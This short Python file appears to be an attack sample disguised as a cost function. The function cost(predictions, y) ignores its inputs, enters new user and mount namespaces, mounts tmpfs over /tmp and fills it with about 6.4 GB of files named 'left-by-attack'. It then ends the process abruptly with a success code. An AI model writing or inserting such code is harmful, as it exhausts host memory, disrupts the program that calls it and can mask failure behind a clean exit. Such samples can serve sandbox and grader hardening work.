"""A file system in memory is mounted in a namespace of its own, and filled."""

import ctypes
import os


def cost(predictions, y):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x00020000):
        raise OSError(ctypes.get_errno(), "unshare")
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None):
        raise OSError(ctypes.get_errno(), "mount")
    for number in range(200):
        with open(f"/tmp/left-by-attack-{number}", "wb") as file:
            file.write(b"x" * (32 << 20))
    os._exit(0)
